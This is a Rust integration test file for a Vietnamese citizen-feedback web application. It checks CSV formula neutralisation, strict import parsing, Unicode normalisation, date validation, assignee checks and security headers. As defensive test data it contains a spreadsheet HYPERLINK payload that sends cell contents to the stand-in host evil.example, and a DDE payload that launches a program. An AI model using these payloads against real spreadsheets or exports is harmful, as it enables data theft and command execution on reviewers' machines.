//! Input a careless user or an attacker sends: formulas meant for a reviewer's spreadsheet, a
//! catalog file whose quote swallows rows, decomposed Unicode and invisible characters, dates
//! that overflow, assignees that do not exist; and the headers that keep private pages private.

use std::net::Ipv4Addr;

use diesel::prelude::*;
use sipas::db::schema::{agencies, responses};
use unicode_normalization::UnicodeNormalization;

use crate::helpers::{SHORT_FORM, TestApp, TestResult, spawn_app_with};
use crate::signed::{csrf_of, get, post, session_of, sign_in};

/// `text` as a keyboard that sends decomposed letters types it.
fn nfd(text: &str) -> String {
    text.nfd().collect()
}

const PASSWORD: &str = "a-long-test-password";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

async fn app_with_staff() -> Result<(TestApp, String), Box<dyn std::error::Error>> {
    let app = spawn_app_with(|s| {
        s.security.trusted_proxies = vec![Ipv4Addr::LOCALHOST.into()];
        s.walkin.max_per_window = 50;
    })
    .await?;
    {
        let mut conn = app.conn()?;
        let now = crate::helpers::now();
        sipas::accounts::users::create(&mut conn, "admin@test.vn", "admin", None, PASSWORD, now)?;
        sipas::accounts::users::create(
            &mut conn,
            "reviewer@test.vn",
            "reviewer",
            None,
            PASSWORD,
            now,
        )?;
        sipas::accounts::users::create(
            &mut conn,
            "head@test.vn",
            "agency_head",
            Some("T-SO"),
            PASSWORD,
            now,
        )?;
    }
    let admin =
        session_of(&sign_in(&app, "admin@test.vn", PASSWORD, "10.1.0.1").await?).ok_or("admin")?;
    Ok((app, admin))
}

async fn walk_in_with_comment(
    app: &TestApp,
    comment: &str,
    e7: &str,
) -> Result<u16, Box<dyn std::error::Error>> {
    let mut answers: Vec<(&str, &str)> = SHORT_FORM
        .iter()
        .filter(|(k, _)| *k != "E7")
        .copied()
        .collect();
    answers.extend([
        ("procedure", "P-KS"),
        ("E3", "3"),
        ("E4", "2"),
        ("E5", "2"),
        ("E7", e7),
        ("C1", comment),
    ]);
    Ok(app.post_form("/k/T-XA", &answers).await?.status().as_u16())
}

/// The cells of a CSV download as a spreadsheet reads them.
fn cells(body: &str) -> Result<Vec<Vec<String>>, csv::Error> {
    let body = body.trim_start_matches('\u{feff}');
    // The Vietnamese report separates fields with `;`; the raw export with `,`.
    let delimiter = if body.lines().next().is_some_and(|l| l.contains(';')) {
        b';'
    } else {
        b','
    };
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.map(|r| r.iter().map(str::to_owned).collect()))
        .collect()
}

fn assert_no_formula(table: &[Vec<String>]) {
    for row in table {
        for cell in row {
            let first = cell.chars().next();
            let numeric = cell.parse::<f64>().is_ok_and(f64::is_finite);
            assert!(
                numeric || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
}

#[tokio::test]
async fn csv_downloads_never_carry_a_formula() -> TestResult {
    let (app, admin) = app_with_staff().await?;
    assert_eq!(walk_in_with_comment(&app, FORMULA, "1").await?, 303);
    assert_eq!(
        walk_in_with_comment(&app, "@SUM(1+1)*cmd|' /C calc'!A0", "1").await?,
        303
    );
    {
        let mut conn = app.conn()?;
        let evil = "code,name,level,province_code,parent_code\nT-EVIL,=1+2,tinh,TT,\n";
        sipas::catalog::import::import_agencies(&mut conn, evil.as_bytes())?;
    }
    let raw = get(&app, "/admin/export/responses.csv", &admin)
        .await?
        .text()
        .await?;
    let table = cells(&raw)?;
    assert_no_formula(&table);
    assert!(
        table.iter().flatten().any(|c| c == &format!("'{FORMULA}")),
        "the comment is kept, neutralised"
    );
    let report = get(&app, "/admin/export/report.csv", &admin)
        .await?
        .text()
        .await?;
    let table = cells(&report)?;
    assert_no_formula(&table);
    assert!(
        table.iter().flatten().any(|c| c == "'=1+2"),
        "the agency name is kept, neutralised"
    );
    Ok(())
}

#[tokio::test]
async fn a_quote_left_open_is_an_error_not_swallowed_rows() -> TestResult {
    let app = spawn_app_with(|_| {}).await?;
    let before = app.count("agencies")?;
    let file = "code,name,level,province_code,parent_code\n\
                TT-Q1,Sở Q1,tinh,TT,\n\
                TT-Q2,\"Sở Q2, nhánh,tinh,TT,\n\
                TT-Q3,Sở Q3,tinh,TT,\n\
                TT-Q4,Sở Q4\",tinh,TT,\n\
                TT-Q5,Sở Q5,tinh,TT,\n";
    let mut conn = app.conn()?;
    match sipas::catalog::import::import_agencies(&mut conn, file.as_bytes()) {
        Err(sipas::csvfile::ImportError::Lines(errors)) => {
            assert_eq!(errors[0].line, 3, "{errors:?}");
            assert!(errors[0].message.contains("line break"), "{errors:?}");
        }
        other => panic!("expected a line error, got {other:?}"),
    }
    let stray = "code,name,level,province_code,parent_code\nTT-Q6,Sở \"Q6\" mới,tinh,TT,\n";
    assert!(sipas::catalog::import::import_agencies(&mut conn, stray.as_bytes()).is_err());
    drop(conn);
    assert_eq!(app.count("agencies")?, before, "nothing imported");
    Ok(())
}

#[tokio::test]
async fn decomposed_and_invisible_characters_are_normalised() -> TestResult {
    let (app, _) = app_with_staff().await?;
    let typed = nfd("Cán bộ đòi bồi dưỡng mới làm");
    assert_ne!(typed, "Cán bộ đòi bồi dưỡng mới làm");
    assert_eq!(
        walk_in_with_comment(&app, &format!("{typed}\u{200B}"), "1").await?,
        303
    );
    let mut conn = app.conn()?;
    let (comment, flag): (Option<String>, bool) = responses::table
        .select((responses::comment, responses::comment_flag))
        .first(&mut *conn)?;
    assert_eq!(comment.as_deref(), Some("Cán bộ đòi bồi dưỡng mới làm"));
    assert!(flag, "the lexicon matches whatever the keyboard sent");
    let file = format!(
        "code,name,level,province_code,parent_code\nT-NFD,{}\u{200D},tinh,TT,\n",
        nfd("Sở Tư pháp mới")
    );
    sipas::catalog::import::import_agencies(&mut conn, file.as_bytes())?;
    let name: String = agencies::table
        .filter(agencies::code.eq("T-NFD"))
        .select(agencies::name)
        .first(&mut *conn)?;
    assert_eq!(name, "Sở Tư pháp mới");
    Ok(())
}

#[tokio::test]
async fn absurd_dates_are_a_bad_request_not_a_panic() -> TestResult {
    let (app, admin) = app_with_staff().await?;
    for path in [
        "/admin?to=-262143-01-02",
        "/admin?to=%2B262142-12-31",
        "/admin?from=1899-12-31",
        "/admin?from=2026-13-45",
        "/admin/agencies/T-SO?to=9999-12-31",
        "/admin/export/report.csv?from=-1-01-01",
        "/admin/export/report.xlsx?to=%2B262142-12-31",
    ] {
        let response = get(&app, path, &admin).await?;
        assert_eq!(response.status(), 400, "{path}");
        assert!(response.text().await?.contains("<html"), "{path}: a page");
    }
    assert_eq!(get(&app, "/admin?from=&to=", &admin).await?.status(), 200);
    assert_eq!(
        get(&app, "/admin?from=2026-01-01&to=2026-06-30", &admin)
            .await?
            .status(),
        200
    );
    Ok(())
}

#[tokio::test]
async fn cases_go_only_to_active_reviewers_and_admins() -> TestResult {
    let (app, admin) = app_with_staff().await?;
    assert_eq!(walk_in_with_comment(&app, "", "3").await?, 303);
    app.sweep()?;
    let (case, head, reviewer): (i64, i64, i64) = {
        use sipas::db::schema::{cases, users};
        let mut conn = app.conn()?;
        let case = cases::table.select(cases::id).first(&mut *conn)?;
        let id = |conn: &mut sipas::db::PooledConn, email: &str| {
            users::table
                .filter(users::email.eq(email))
                .select(users::id)
                .first::<i64>(&mut **conn)
        };
        (
            case,
            id(&mut conn, "head@test.vn")?,
            id(&mut conn, "reviewer@test.vn")?,
        )
    };
    let path = format!("/admin/cases/{case}");
    let csrf = csrf_of(&app, &path, &admin).await?;
    for who in ["9999".to_owned(), "-1".to_owned(), head.to_string()] {
        let response = post(
            &app,
            &path,
            &admin,
            &[("csrf", &csrf), ("action", "assign"), ("assignee", &who)],
        )
        .await?;
        assert_eq!(response.status(), 422, "assignee {who}");
    }
    let due = post(
        &app,
        &path,
        &admin,
        &[("csrf", &csrf), ("action", "due"), ("due", "+262142-12-31")],
    )
    .await?;
    assert!(
        [400, 422].contains(&due.status().as_u16()),
        "{}",
        due.status()
    );
    let fine = post(
        &app,
        &path,
        &admin,
        &[
            ("csrf", &csrf),
            ("action", "assign"),
            ("assignee", &reviewer.to_string()),
        ],
    )
    .await?;
    assert_eq!(fine.status(), 303);
    Ok(())
}

#[tokio::test]
async fn private_pages_are_not_stored_and_https_is_remembered() -> TestResult {
    let (app, admin) = app_with_staff().await?;
    for path in [
        "/admin",
        "/admin/users",
        "/admin/export/report.csv",
        "/admin/export/report.xlsx",
        "/admin/export/reach.csv",
        "/admin/export/responses.csv",
        "/admin/nope",
    ] {
        let response = get(&app, path, &admin).await?;
        assert_eq!(
            response
                .headers()
                .get("cache-control")
                .and_then(|v| v.to_str().ok()),
            Some("no-store"),
            "{path}"
        );
    }
    let login = app.client.get(app.url("/admin/login")).send().await?;
    assert_eq!(
        login
            .headers()
            .get("cache-control")
            .and_then(|v| v.to_str().ok()),
        Some("no-store")
    );
    // The test server's public URL is https: browsers are told to stay on https.
    let page = app.client.get(app.url("/k/T-XA")).send().await?;
    let hsts = page
        .headers()
        .get("strict-transport-security")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("");
    assert!(hsts.starts_with("max-age="), "{hsts:?}");
    let ready = app.client.get(app.url("/readyz")).send().await?;
    assert_eq!(ready.status(), 200);
    assert_eq!(
        app.client.get(app.url("/healthz")).send().await?.status(),
        200
    );
    // The Bearer scheme is case-insensitive.
    let lower = app
        .client
        .post(app.url("/api/v1/dossiers"))
        .header("Authorization", format!("bearer {}", app.api_key))
        .json(&crate::helpers::dossier("LOWER-1", "T-SO", false))
        .send()
        .await?;
    assert!(lower.status().is_success(), "{}", lower.status());
    Ok(())
}
